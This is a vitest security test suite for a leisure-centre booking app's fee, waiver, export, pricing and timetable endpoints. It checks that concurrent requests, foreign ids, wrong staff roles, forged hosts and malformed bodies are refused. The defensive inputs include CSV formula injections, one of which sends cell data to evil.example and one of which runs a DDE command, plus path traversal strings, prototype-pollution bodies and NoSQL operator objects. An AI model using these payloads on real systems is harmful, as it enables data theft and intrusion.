import type { Cart } from '@lido/contracts/cart';
import type { StaffPrices } from '@lido/contracts/prices-offers';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  bookedSession,
  createActivity,
  createSession,
  type TestActivity,
} from './support/activity-factories.ts';
import { startTestSandbox, type TestSandbox } from './support/card-sandbox.ts';
import { cardBilling } from './support/checkout-calls.ts';
import { createCustomer, type TestCustomer } from './support/factories.ts';
import { staffLogin } from './support/staff-login.ts';
import { createTestApp, siteHost, type TestApp } from './support/test-app.ts';

const hour = 60 * 60 * 1000;
const staffHost = siteHost.frontOfHouse;
const castlefield = 'castlefield-leisure-centre';
type Method = 'GET' | 'POST' | 'PUT';

/** A body nested `depth` objects deep, as raw JSON. */
const nested = (depth: number) => `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;

/**
 * This session's new money and staff calls attacked from outside: the same call many times at
 * once, other people's ids, the wrong staff, odd paths, odd bodies and odd numbers, formula names
 * reaching the exports, forged hosts. Every bad call is a clear 4xx that changes nothing; nothing
 * is done twice.
 */
describe('attacks on the new money and staff endpoints', () => {
  let t: TestApp;
  let sandbox: TestSandbox;
  const now = new Date('2026-12-01T20:00:00Z');
  let activity: TestActivity;
  const rows = <R extends Record<string, unknown>>(sql: string, params: unknown[] = []) =>
    t.database.query<R>(sql, params);
  const call = (
    host: string,
    method: Method,
    url: string,
    cookie: string,
    payload?: object | string,
    headers: Record<string, string> = {},
  ) =>
    t.app.inject({
      method,
      url,
      headers: {
        host,
        origin: `http://${host}`,
        cookie,
        ...(typeof payload === 'string' ? { 'content-type': 'application/json' } : {}),
        ...headers,
      },
      ...(payload === undefined ? {} : { payload }),
    });
  const desk = () => staffLogin(t, 'desk', 'Desk-Staff-2026!');
  const supervisor = () => staffLogin(t, 'supervisor', 'Supervisor-2026!');
  const manager = () => staffLogin(t, 'manager', 'Pool-Manager-2026!');
  const auditCount = async () =>
    Number((await rows<{ n: number }>('SELECT count(*)::int AS n FROM staff_audit_log'))[0]!.n);
  /** Never a 5xx; a refusal is a 4xx with words. */
  const refused = (response: { statusCode: number; body: string }, what: string) => {
    const said = `${what}: ${response.body.slice(0, 300)}`;
    expect(response.statusCode, said).toBeGreaterThanOrEqual(400);
    expect(response.statusCode, said).toBeLessThan(500);
  };

  /** A fee the customer owes for a no-show at `venueSlug` an hour ago. */
  const owedFee = async (customer: TestCustomer, amountPence = 500, venueSlug = castlefield) => {
    const { bookingId } = await bookedSession(t, activity, customer, {
      startsAt: new Date(now.getTime() - hour),
      venueSlug,
    });
    const [fee] = await rows<{ id: number }>(
      `INSERT INTO account_penalty_fees (customer_id, booking_id, kind, amount_pence, given_at)
       VALUES ($1, $2, 'no-show', $3, $4) RETURNING id`,
      [customer.id, bookingId, amountPence, now],
    );
    return fee!.id;
  };
  const feeState = async (feeId: number) =>
    (
      await rows<{ paid: boolean; waived: boolean }>(
        'SELECT paid_at IS NOT NULL AS paid, waived_at IS NOT NULL AS waived FROM account_penalty_fees WHERE id = $1',
        [feeId],
      )
    )[0]!;
  const credit = async (customer: TestCustomer) =>
    Number(
      (
        await rows<{ pence: number }>(
          'SELECT coalesce((SELECT balance_pence FROM account_credit_balances WHERE customer_id = $1), 0) AS pence',
          [customer.id],
        )
      )[0]!.pence,
    );
  const feeOrders = async (customer: TestCustomer) =>
    rows<{ order_id: number }>(
      `SELECT i.order_id FROM order_items i JOIN orders o ON o.id = i.order_id
       WHERE o.customer_id = $1 AND i.item_type = 'penalty_fee'`,
      [customer.id],
    );
  const pay = (customer: TestCustomer) =>
    call(siteHost.myAccount, 'POST', '/api/my-account/penalty-fees/pay', customer.cookie);
  const completeWithCredit = (customer: TestCustomer, pence: number) =>
    call(siteHost.bookings, 'POST', '/api/checkout/complete', customer.cookie, {
      source: 'bookings',
      payments: [{ tender_type: 'credit', amount: pence }],
    });
  const waive = (cookie: string, feeId: number | string, payload: object | string = { reason: 'Goodwill' }) =>
    call(staffHost, 'POST', `/api/staff/penalty-fees/${feeId}/waive`, cookie, payload);

  beforeAll(async () => {
    sandbox = await startTestSandbox();
    t = await createTestApp({ now: () => now, cardProvider: sandbox.provider });
    activity = await createActivity(t, { name: 'Spin' });
  });
  afterAll(async () => {
    await t?.close();
    await sandbox?.close();
  });

  it('puts each fee in the basket once however often Pay now is pressed at once, and charges it once', async () => {
    const customer = await createCustomer(t, { creditBalancePence: 5000 });
    const fees = [await owedFee(customer, 500), await owedFee(customer, 300)];
    const presses = await Promise.all(Array.from({ length: 30 }, () => pay(customer)));
    for (const press of presses) expect(press.statusCode, press.body).toBe(201);
    const lines = await rows<{ fee_id: number }>(
      `SELECT l.fee_id FROM cart_penalty_fee_lines l JOIN carts c ON c.id = l.cart_id
       WHERE c.customer_id = $1 ORDER BY l.fee_id`,
      [customer.id],
    );
    expect(lines.map((line) => line.fee_id)).toEqual([...fees].sort((a, b) => a - b));
    expect(presses.at(-1)!.json<{ data: Cart }>().data.totals.total).toBe(800);

    const completions = await Promise.all(
      Array.from({ length: 20 }, () => completeWithCredit(customer, 800)),
    );
    for (const completion of completions) expect(completion.statusCode, completion.body).toBeLessThan(500);
    // A repeat answers the one order made (or is refused): never a second order.
    const orders = completions.filter((completion) => completion.statusCode === 200);
    expect(
      new Set(orders.map((order) => order.json<{ data: { orderId: number } }>().data.orderId)).size,
    ).toBe(1);
    expect(new Set((await feeOrders(customer)).map((row) => row.order_id)).size).toBe(1);
    expect(await credit(customer)).toBe(4200);
    for (const fee of fees) expect(await feeState(fee)).toEqual({ paid: true, waived: false });
  });

  it('never has a fee both paid and waived, nor charges for one waived, when paying races a waiver', async () => {
    const managerCookie = await manager();
    const customers = await Promise.all(
      [1, 2, 3, 4, 5, 6].map(() => createCustomer(t, { creditBalancePence: 1000 })),
    );
    const fees: number[] = [];
    for (const customer of customers) {
      fees.push(await owedFee(customer, 500));
      expect((await pay(customer)).statusCode).toBe(201);
    }
    const answers = await Promise.all(
      customers.flatMap((customer, i) => [
        completeWithCredit(customer, 500),
        waive(managerCookie, fees[i]!, { reason: 'Closed early' }),
      ]),
    );
    for (const answer of answers) expect(answer.statusCode, answer.body).toBeLessThan(500);
    for (const [i, customer] of customers.entries()) {
      const state = await feeState(fees[i]!);
      expect(state.paid !== state.waived, JSON.stringify(state)).toBe(true);
      const [paid, waived] = [answers[2 * i]!, answers[2 * i + 1]!];
      if (state.waived) {
        expect(paid.statusCode, paid.body).not.toBe(200);
        expect(waived.statusCode).toBe(200);
        expect(await feeOrders(customer)).toEqual([]);
        expect(await credit(customer)).toBe(1000);
      } else {
        expect(paid.statusCode, paid.body).toBe(200);
        expect(waived.statusCode).toBe(409);
        expect(await feeOrders(customer)).toHaveLength(1);
        expect(await credit(customer)).toBe(500);
      }
    }
  });

  it('gives a card payment back, and charges nothing, when the fee it pays is waived during the payment', async () => {
    const customer = await createCustomer(t);
    const fee = await owedFee(customer, 500);
    const cart = (await pay(customer)).json<{ data: Cart }>().data;
    const onSite = (method: Method, url: string, payload?: object) =>
      call(siteHost.bookings, method, url, customer.cookie, payload);
    const terms = (await onSite('GET', `/api/terms?cart_id=${cart.cartId}`)).json<{
      data: { data: { id: number }[] };
    }>().data.data;
    const prepared = (await onSite('GET', '/api/checkout/prepare')).json<{ data: { sessionKey: string } }>()
      .data;
    const token = await sandbox.tokenise(prepared.sessionKey, { cardholderName: 'OWEN PRICE' });
    const authorised = await onSite('POST', '/api/checkout/authorise', {
      ...cardBilling,
      session_key: prepared.sessionKey,
      card_identifier: token.body.cardIdentifier,
      terms: terms.map((term) => term.id),
      payments: [],
    });
    expect(authorised.statusCode, authorised.body).toBe(200);
    const { transactionUuid, transactionStatus } = authorised.json<{
      data: { transactionUuid: string; transactionStatus: string };
    }>().data;
    expect(transactionStatus).toBe('authorised');
    expect((await waive(await manager(), fee, { reason: 'Closed early' })).statusCode).toBe(200);
    const completions = await Promise.all(
      Array.from({ length: 10 }, () =>
        onSite('POST', '/api/checkout/complete', { transaction_uuid: transactionUuid }),
      ),
    );
    for (const completion of completions) refused(completion, 'completing a payment for a waived fee');
    expect(completions[0]!.json().message).toContain('already been paid or waived');
    const [attempt] = await rows<{ status: string }>('SELECT status FROM payment_attempts WHERE uuid = $1', [
      transactionUuid,
    ]);
    expect(attempt!.status).toBe('voided');
    expect(await feeOrders(customer)).toEqual([]);
    expect(await feeState(fee)).toEqual({ paid: false, waived: true });
  });

  it('waives once however often a manager presses at once, and only for a manager of the booking’s centre', async () => {
    const customer = await createCustomer(t);
    const fee = await owedFee(customer);
    const elsewhere = await owedFee(customer, 400, 'roath-park-fitness');
    const before = await auditCount();
    for (const cookie of [await desk(), await supervisor()])
      expect((await waive(cookie, fee)).statusCode).toBe(403);
    const managerCookie = await manager();
    // A manager of other centres cannot waive a fee for a booking at a centre not theirs.
    expect((await waive(managerCookie, elsewhere)).statusCode).toBe(403);
    const presses = await Promise.all(Array.from({ length: 25 }, () => waive(managerCookie, fee)));
    expect(presses.map((press) => press.statusCode).sort()).toEqual([200, ...Array(24).fill(409)]);
    expect(await feeState(fee)).toEqual({ paid: false, waived: true });
    expect(await feeState(elsewhere)).toEqual({ paid: false, waived: false });
    expect(await auditCount()).toBe(before + 1);
  });

  it('refuses odd fee ids, customer ids and bodies with a 4xx and changes nothing', async () => {
    const customer = await createCustomer(t);
    const fee = await owedFee(customer);
    const managerCookie = await manager();
    const before = await auditCount();
    for (const id of [
      '-1',
      '0',
      '1.5',
      '1e3',
      '0x10',
      '99999999999999999999',
      'abc',
      `${fee}%00`,
      `%20${fee}`,
      'NaN',
    ])
      refused(await waive(managerCookie, id), `fee id ${id}`);
    const bodies: (object | string)[] = [
      { reason: 'a\u0000b' },
      { reason: 'x'.repeat(100_000) },
      { reason: { a: { b: 'c' } } },
      { reason: ['Goodwill'] },
      { reason: 12 },
      { reason: null },
      nested(5000),
      '{"reason":"Goodwill","__proto__":{"admin":true}}',
      '{"reason":',
      `{"reason":"${'\\u0000'.repeat(3)}"}`,
    ];
    for (const body of bodies)
      refused(await waive(managerCookie, fee, body), `body ${String(JSON.stringify(body)).slice(0, 60)}`);
    for (const id of ['-1', '1.5', '1e309', 'abc', '99999999999999999999'])
      refused(
        await call(staffHost, 'GET', `/api/staff/customers/${id}/penalty-fees`, managerCookie),
        `customer id ${id}`,
      );
    const unknown = await call(
      staffHost,
      'GET',
      '/api/staff/customers/2147483647/penalty-fees',
      managerCookie,
    );
    expect(unknown.statusCode, unknown.body).toBe(404);
    expect(unknown.json().message).toBe('There is no such customer.');
    expect(await feeState(fee)).toEqual({ paid: false, waived: false });
    expect(await auditCount()).toBe(before);
  });

  it('keeps each customer to their own fees: no cookie, a staff cookie, a foreign origin or host are refused', async () => {
    const customer = await createCustomer(t);
    const fee = await owedFee(customer);
    const staffCookie = await manager();
    for (const path of ['/api/my-account/penalty-fees', '/api/my-account/booking-block']) {
      refused(await call(siteHost.myAccount, 'GET', path, ''), `${path} without a login`);
      refused(await call(siteHost.myAccount, 'GET', path, staffCookie), `${path} with a staff cookie`);
    }
    refused(
      await call(siteHost.myAccount, 'POST', '/api/my-account/penalty-fees/pay', ''),
      'pay without a login',
    );
    refused(
      await call(siteHost.myAccount, 'POST', '/api/my-account/penalty-fees/pay', customer.cookie, undefined, {
        origin: 'http://evil.example',
      }),
      'pay from another site',
    );
    refused(
      await call('evil.example', 'POST', '/api/my-account/penalty-fees/pay', customer.cookie, undefined, {
        'x-forwarded-host': siteHost.myAccount,
        'x-forwarded-for': '127.0.0.1',
      }),
      'pay with a forged host',
    );
    // The customer's own list shows only their fee; a waiver call with a customer's cookie is refused.
    const other = await createCustomer(t);
    await owedFee(other);
    const mine = await call(siteHost.myAccount, 'GET', '/api/my-account/penalty-fees', customer.cookie);
    expect(mine.json<{ data: { fees: { id: number }[] } }>().data.fees.map((f) => f.id)).toEqual([fee]);
    refused(
      await call(staffHost, 'POST', `/api/staff/penalty-fees/${fee}/waive`, customer.cookie, { reason: 'x' }),
      'customer waives',
    );
    expect(
      await rows(
        'SELECT l.id FROM cart_penalty_fee_lines l JOIN carts c ON c.id = l.cart_id WHERE c.customer_id = $1',
        [customer.id],
      ),
    ).toEqual([]);
    expect(await feeState(fee)).toEqual({ paid: false, waived: false });
  });

  it('keeps a fee line as it is: no quantity, no removal by another customer, no other customer’s fee', async () => {
    const customer = await createCustomer(t);
    const fee = await owedFee(customer, 500);
    const basket = (await pay(customer)).json<{ data: Cart }>().data;
    const lineId = basket.items[0]!.id;
    for (const quantity of [0, 2, -1, 1.5, 1e20])
      refused(
        await call(siteHost.bookings, 'PUT', `/api/cart/${lineId}`, customer.cookie, { quantity }),
        `quantity ${quantity}`,
      );
    const stranger = await createCustomer(t);
    const strangerFee = await owedFee(stranger, 700);
    const removed = await call(siteHost.bookings, 'POST', '/api/cart/remove', stranger.cookie, {
      cart_item_ids: [lineId],
    });
    expect(removed.statusCode).toBeLessThan(500);
    refused(
      await call(siteHost.bookings, 'PUT', `/api/cart/${lineId}`, stranger.cookie, { quantity: 1 }),
      'stranger',
    );
    const after = (await call(siteHost.bookings, 'GET', '/api/cart', customer.cookie)).json<{ data: Cart }>()
      .data;
    expect(after.items.map((item) => item.id)).toEqual([lineId]);
    expect(after.totals.total).toBe(500);
    expect(await feeState(fee)).toEqual({ paid: false, waived: false });
    expect(await feeState(strangerFee)).toEqual({ paid: false, waived: false });
  });

  it('refuses a booking note that is not one line of plain text, and holds nothing', async () => {
    const customer = await createCustomer(t);
    const session = await createSession(t, activity, { startsAt: new Date(now.getTime() + 30 * hour) });
    const add = (options: unknown) =>
      call(siteHost.bookings, 'POST', '/api/cart/add', customer.cookie, {
        items: [{ id: session.id, type: 'booking', pricing_option_id: activity.price('adult').id, options }],
      });
    for (const note of [
      'a\u0000b',
      'x'.repeat(201),
      'two\nlines',
      'tab\there',
      { text: 'hi' },
      ['hi'],
      12,
      '\u009b1m',
      'one\u2028two',
      'evil\u202eblah',
    ])
      refused(await add({ note }), `note ${JSON.stringify(note).slice(0, 40)}`);
    refused(await add({ note: 'ok', quantity: -1 }), 'negative quantity');
    refused(await add({ note: 'ok', quantity: 1.5 }), 'fractional quantity');
    refused(await add({ note: 'ok', quantity: 1e20 }), 'huge quantity');
    expect(
      await rows(
        'SELECT l.id FROM cart_booking_lines l JOIN carts c ON c.id = l.cart_id WHERE c.customer_id = $1',
        [customer.id],
      ),
    ).toEqual([]);
  });

  it('writes a formula-looking name into the exports as text', async () => {
    const customer = await createCustomer(t, {
      firstName: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      lastName: "@SUM(1+1)*cmd|' /C calc'!A0",
      homeVenueSlug: castlefield,
    });
    const [{ day }] = (await rows<{ day: string }>(
      `SELECT to_char(created_at AT TIME ZONE 'Europe/London', 'YYYY-MM-DD') AS day FROM customers WHERE id = $1`,
      [customer.id],
    )) as [{ day: string }];
    const cookie = await manager();
    const response = await call(
      staffHost,
      'GET',
      `/api/staff/exports/customers.csv?from=${day}&to=${day}`,
      cookie,
    );
    expect(response.statusCode, response.body).toBe(200);
    const line = response.body.split('\r\n').find((row) => row.includes(customer.reference))!;
    expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`);
    expect(line).toContain(`"'@SUM(1+1)*cmd|' /C calc'!A0"`);
    expect(line).not.toMatch(/(^|,)"[=+\-@]/);
    // A name starting on a new line with a formula is written as text too.
    const other = await createCustomer(t, { firstName: '\n=1+2', homeVenueSlug: castlefield });
    const again = await call(
      staffHost,
      'GET',
      `/api/staff/exports/customers.csv?from=${day}&to=${day}`,
      cookie,
    );
    expect(again.body).toContain(`"${other.reference}","'\n=1+2"`);
  });

  it('refuses the exports and download log to other staff, and odd ranges, with a 4xx', async () => {
    const before = await auditCount();
    for (const cookie of [await desk(), await supervisor()]) {
      expect(
        (await call(staffHost, 'GET', '/api/staff/exports/orders.csv?from=2026-11-01&to=2026-11-30', cookie))
          .statusCode,
      ).toBe(403);
      expect(
        (
          await call(staffHost, 'POST', '/api/staff/dashboard/downloads', cookie, {
            table: 'utilisation',
            from: '2026-11-01',
            to: '2026-11-30',
            centre: castlefield,
            rows: 3,
          })
        ).statusCode,
      ).toBe(403);
    }
    const cookie = await manager();
    for (const query of [
      'from=2026-02-30&to=2026-03-01',
      'from=2026-11-30&to=2026-11-01',
      'from=x&to=y',
      'from=2026-11-01&to=2026-11-30&centre=%00',
      'from=2026-11-01&to=2026-11-30&centre=..%2F..%2Fetc',
      'from=0001-01-01&to=9999-12-31',
      'from[]=1&to=2026-11-30',
    ])
      refused(
        await call(staffHost, 'GET', `/api/staff/exports/orders.csv?${query}`, cookie),
        `export ${query}`,
      );
    refused(await call(staffHost, 'GET', '/api/staff/exports/..%2Fpasswords.csv', cookie), 'export kind');
    for (const host of [siteHost.bookings, 'evil.example'])
      refused(
        await call(
          host,
          'GET',
          '/api/staff/exports/customers.csv?from=2026-11-01&to=2026-11-30',
          cookie,
          undefined,
          {
            'x-forwarded-host': staffHost,
            'x-forwarded-for': '10.0.0.1',
          },
        ),
        `export on ${host}`,
      );
    const download = {
      table: 'utilisation',
      from: '2026-11-01',
      to: '2026-11-30',
      centre: castlefield,
      rows: 3,
    };
    for (const odd of [
      { rows: -1 },
      { rows: 1.5 },
      { rows: 1e20 },
      { rows: '3' },
      { table: '__proto__' },
      { table: 'constructor' },
      { centre: 'x'.repeat(10_000) },
      { from: { $gt: '' } },
    ])
      refused(
        await call(staffHost, 'POST', '/api/staff/dashboard/downloads', cookie, { ...download, ...odd }),
        JSON.stringify(odd).slice(0, 60),
      );
    refused(
      await call(staffHost, 'POST', '/api/staff/dashboard/downloads', cookie, nested(5000)),
      'deeply nested',
    );
    expect(await auditCount()).toBe(before);
  });

  it('changes a price once however often it is saved at once, and refuses odd slugs, numbers and staff', async () => {
    const cookie = await manager();
    const listed = await call(staffHost, 'GET', '/api/staff/prices', cookie);
    expect(listed.statusCode, listed.body).toBe(200);
    const prices = listed.json<{ data: StaffPrices }>().data;
    const pass = prices.packages.find((entry) => entry.editable)!;
    const entry: Record<string, unknown> = { ...pass };
    delete entry.editable;
    const before = await auditCount();
    for (const staff of [await desk(), await supervisor()]) {
      expect((await call(staffHost, 'GET', '/api/staff/prices', staff)).statusCode).toBe(403);
      expect(
        (
          await call(staffHost, 'PUT', '/api/staff/prices/packages', staff, {
            package: { ...entry, pricePence: 1 },
          })
        ).statusCode,
      ).toBe(403);
    }
    const oddPackages: Record<string, unknown>[] = [
      ...[-1, 1.5, 1e20, '100', null, Number.MAX_SAFE_INTEGER + 2].map((pricePence) => ({ pricePence })),
      { key: '__proto__' },
      { key: 'a\u0000b' },
      ...[[], ['roath-park-fitness'], [castlefield, castlefield], ['no-such-centre'], 'all', [{}]].map(
        (venues) => ({ venues }),
      ),
      { extra: 'x' },
      { key: 'new-pass', name: 'x'.repeat(10_000) },
    ];
    for (const change of oddPackages)
      refused(
        await call(staffHost, 'PUT', '/api/staff/prices/packages', cookie, {
          package: { ...entry, ...change },
        }),
        `package ${JSON.stringify(change).slice(0, 60)}`,
      );
    refused(
      await call(staffHost, 'PUT', '/api/staff/prices/packages', cookie, nested(5000)),
      'deeply nested',
    );
    const membership = prices.memberships.find((m) => m.editable)!;
    const option = membership.paymentOptions[0]!;
    for (const slug of [
      '%2E%2E',
      '__proto__',
      'constructor',
      'x'.repeat(101),
      '%00',
      `${membership.slug}%2F..`,
    ])
      refused(
        await call(staffHost, 'PUT', `/api/staff/prices/memberships/${slug}`, cookie, {
          paymentOptions: [{ key: option.key, pricePence: option.pricePence + 100 }],
        }),
        `membership ${slug.slice(0, 20)}`,
      );
    for (const pricePence of [-1, 2.5, 1e20])
      refused(
        await call(staffHost, 'PUT', `/api/staff/prices/memberships/${membership.slug}`, cookie, {
          paymentOptions: [{ key: option.key, pricePence }],
        }),
        `membership price ${pricePence}`,
      );
    refused(
      await call(staffHost, 'PUT', `/api/staff/prices/memberships/${membership.slug}`, cookie, {
        paymentOptions: [{ key: '__proto__', pricePence: 100 }],
      }),
      'option __proto__',
    );
    const oddOptions: object[] = [
      { joiningFeePence: -1 },
      { joiningFeePence: 1e20 },
      { priceChange: { pricePence: -5, effectiveFrom: '2027-06-01' } },
      { priceChange: { pricePence: 100, effectiveFrom: '2027-02-30' } },
      { priceChange: { pricePence: 100, effectiveFrom: '2026-12-02' } },
      { priceChange: 'tomorrow' },
      { paymentType: 'free' },
    ];
    for (const change of oddOptions)
      refused(
        await call(staffHost, 'PUT', `/api/staff/prices/memberships/${membership.slug}`, cookie, {
          paymentOptions: [{ key: option.key, ...change }],
        }),
        `option ${JSON.stringify(change)}`,
      );
    for (const guestPasses of [
      { totalUses: -1, frequency: 'month' },
      { totalUses: 1e20, frequency: 'month' },
      { totalUses: 2, frequency: '__proto__' },
      'lots',
    ])
      refused(
        await call(staffHost, 'PUT', `/api/staff/prices/memberships/${membership.slug}`, cookie, {
          paymentOptions: [],
          guestPasses,
        }),
        `guest passes ${JSON.stringify(guestPasses)}`,
      );
    const notMine = prices.memberships.find((m) => !m.editable)!;
    expect(notMine, 'a membership sold only at centres the manager does not run').toBeDefined();
    expect(
      (
        await call(staffHost, 'PUT', `/api/staff/prices/memberships/${notMine.slug}`, cookie, {
          paymentOptions: [{ key: notMine.paymentOptions[0]!.key, pricePence: 1 }],
        })
      ).statusCode,
    ).toBe(403);
    expect(await auditCount()).toBe(before);

    const saves = await Promise.all(
      Array.from({ length: 20 }, () =>
        call(staffHost, 'PUT', '/api/staff/prices/packages', cookie, {
          package: { ...entry, pricePence: pass.pricePence + 50 },
        }),
      ),
    );
    for (const save of saves) expect(save.statusCode, save.body).toBe(200);
    expect(await rows("SELECT id FROM staff_audit_log WHERE action = 'prices.package-saved'")).toHaveLength(
      1,
    );
  });

  it('adds a series with its own rules once however often it is sent at once, and refuses odd rules', async () => {
    const cookie = await manager();
    const series = {
      key: 'attack-late-yoga',
      activity: 'yoga',
      venue: castlefield,
      location: 'coaching-studio',
      days: ['wed'],
      times: ['21:30'],
      durationMinutes: 45,
      capacity: 12,
      cancellationCutoffMinutes: 60,
      prices: [{ band: 'adult', pricePence: 950, bookingWindowDays: 7 }],
    };
    const send = (body: object | string) =>
      call(staffHost, 'POST', '/api/staff/timetable/series', cookie, body);
    const saved = () =>
      rows(
        "SELECT id FROM staff_audit_log WHERE action = 'timetable.series-added' AND details::text LIKE '%attack-%'",
      );
    const odd: object[] = [
      { prices: [{ band: 'adult', pricePence: -1, bookingWindowDays: 7 }] },
      { prices: [{ band: 'adult', pricePence: 9.5, bookingWindowDays: 7 }] },
      { prices: [{ band: 'adult', pricePence: 1e20, bookingWindowDays: 7 }] },
      { prices: [{ band: '__proto__', pricePence: 100, bookingWindowDays: 7 }] },
      { prices: [{ band: 'adult', pricePence: 100, bookingWindowDays: -1 }] },
      { minAge: -1 },
      { minAge: 1.5 },
      { cancellationCutoffMinutes: 1e9 },
      { waiverRequired: true, waiverText: 'a\u0000b' },
      { waiverRequired: true, waiverText: 'w'.repeat(5001) },
      { instructor: 'x'.repeat(100_000) },
      { key: 'attack-%2E%2E' },
      { key: 'x'.repeat(81) },
    ];
    for (const change of odd)
      refused(await send({ series: { ...series, ...change } }), JSON.stringify(change).slice(0, 60));
    refused(await send(nested(5000)), 'deeply nested');
    refused(
      await call(staffHost, 'PUT', '/api/staff/timetable/series/%2E%2E%2Fsomething', cookie, {
        series,
        version: '1',
        applyToGenerated: false,
      }),
      'a percent-encoded key',
    );
    expect(await saved()).toEqual([]);

    const sent = await Promise.all(Array.from({ length: 20 }, () => send({ series })));
    for (const answer of sent) expect(answer.statusCode, answer.body).toBeLessThan(500);
    expect(sent.filter((answer) => answer.statusCode === 201)).toHaveLength(1);
    expect(await saved()).toHaveLength(1);
  });

  it('starts a promotion once however often it is sent at once, in any case, and refuses odd values', async () => {
    const cookie = await manager();
    const promotion = {
      code: 'ATTACK10',
      kind: 'percent',
      value: 10,
      appliesTo: ['joining_fee'],
      oncePerCustomer: true,
    };
    const send = (body: object | string) =>
      call(staffHost, 'PUT', '/api/staff/prices/promotions', cookie, body);
    const before = await auditCount();
    const odd: object[] = [
      { value: 101 },
      { value: -10 },
      { value: 1.5 },
      { kind: 'amount', value: 1e20 },
      { code: 'a\u0000b' },
      { code: 'X'.repeat(10_000) },
      { code: '' },
      { appliesTo: ['__proto__'] },
      { maxRedemptions: -1 },
      { validFrom: '2026-02-30' },
      { types: ['no-such-membership'] },
    ];
    for (const change of odd)
      refused(await send({ promotion: { ...promotion, ...change } }), JSON.stringify(change).slice(0, 60));
    refused(await send({ promotion: 'ATTACK10' }), 'not an object');
    refused(await send(nested(5000)), 'deeply nested');
    expect(await auditCount()).toBe(before);

    const sent = await Promise.all(Array.from({ length: 20 }, () => send({ promotion })));
    for (const answer of sent) expect(answer.statusCode, answer.body.slice(0, 300)).toBe(200);
    expect(await rows("SELECT id FROM staff_audit_log WHERE action = 'prices.promotion-saved'")).toHaveLength(
      1,
    );
    // The same code in another case is the same promotion, changed, not a second one.
    const lower = await send({ promotion: { ...promotion, code: 'attack10', value: 15 } });
    expect(lower.statusCode, lower.body.slice(0, 300)).toBe(200);
    const listed = lower.json<{ data: StaffPrices }>().data.promotions;
    expect(listed.filter((entry) => entry.code.toUpperCase() === 'ATTACK10')).toEqual([
      expect.objectContaining({ value: 15 }),
    ]);
  });

  it('adds a one-off session once however often it is sent at once, and refuses odd numbers and text', async () => {
    const cookie = await manager();
    const oneOff = {
      activity: 'yoga',
      venue: castlefield,
      location: 'coaching-studio',
      date: '2026-12-09',
      time: '21:15',
      durationMinutes: 45,
      capacity: 8,
    };
    const sessions = () =>
      rows(
        `SELECT se.id FROM activity_sessions se JOIN activities a ON a.id = se.activity_id
         WHERE a.key = 'yoga' AND se.starts_at = '2026-12-09T21:15:00Z'`,
      );
    const send = (body: object | string) =>
      call(staffHost, 'POST', '/api/staff/timetable/sessions', cookie, body);
    const before = await auditCount();
    const odd: object[] = [
      { capacity: -1 },
      { capacity: 1.5 },
      { capacity: 1e20 },
      { capacity: '8' },
      { durationMinutes: 1e9 },
      { durationMinutes: -45 },
      { date: '2026-02-30' },
      { date: '99999-12-09' },
      { time: '21:15:00.000000001' },
      { instructor: 'x'.repeat(100_000) },
      { instructor: 'a\u0000b' },
      { venue: '%2E%2E' },
      { activity: { $ne: null } },
    ];
    for (const change of odd)
      refused(await send({ ...oneOff, ...change }), JSON.stringify(change).slice(0, 60));
    refused(await send(nested(5000)), 'deeply nested');
    expect(await sessions()).toEqual([]);
    expect(await auditCount()).toBe(before);

    const sent = await Promise.all(Array.from({ length: 20 }, () => send(oneOff)));
    expect(sent.map((answer) => answer.statusCode).sort()).toEqual([201, ...Array(19).fill(409)]);
    expect(sent.find((answer) => answer.statusCode === 409)!.json().message).toBe(
      'Yoga is already on at Coaching studio at that time.',
    );
    expect(await sessions()).toHaveLength(1);
    expect(await auditCount()).toBe(before + 1);
  });
});
